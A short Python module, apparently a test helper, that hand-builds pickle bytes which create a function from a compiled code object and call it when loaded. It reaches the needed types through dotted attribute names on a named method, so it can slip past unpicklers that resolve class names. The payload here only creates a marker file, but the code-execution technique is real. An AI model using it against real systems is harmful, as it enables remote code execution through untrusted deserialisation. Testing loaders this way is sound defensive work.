"""Pickles that run code when a reader looks classes up by name, dotted names too."""

from __future__ import annotations

import pickle
from pathlib import Path
from types import CodeType

PROTOCOL = b"\x80\x04"
CALL, GLOBAL, STOP = b"R", b"\x93", b"."


def that_touches(path: Path, module: str, method: str) -> bytes:
    """Create ``path`` while it is read: the types of functions and of their code are attributes of
    any ``method`` of a class in ``module``, and with these two a function is made and called."""
    code = compile(f"open({str(path)!r}, 'w').close()", "hostile", "exec")
    made = (
        _named(module, f"{method}.__class__")
        + _named(module, f"{method}.__code__.__class__")
        + _plain(_arguments(code))
        + CALL
        + b"}"  # its globals: Python adds the built-in functions
        + b"\x86"
        + CALL
        + b")"
        + CALL
    )
    return PROTOCOL + made + STOP


def _arguments(code: CodeType) -> tuple[object, ...]:
    return (
        code.co_argcount, code.co_posonlyargcount, code.co_kwonlyargcount, code.co_nlocals,
        code.co_stacksize, code.co_flags, code.co_code, code.co_consts, code.co_names,
        code.co_varnames, code.co_filename, code.co_name, code.co_qualname, code.co_firstlineno,
        code.co_linetable, code.co_exceptiontable, code.co_freevars, code.co_cellvars,
    )  # fmt: skip


def _named(module: str, name: str) -> bytes:
    return _text(module) + _text(name) + GLOBAL


def _text(text: str) -> bytes:
    return b"\x8c" + bytes([len(text)]) + text.encode()


def _plain(value: object) -> bytes:
    """One value, without the frame around it."""
    return pickle.dumps(value, protocol=3)[2:-1]
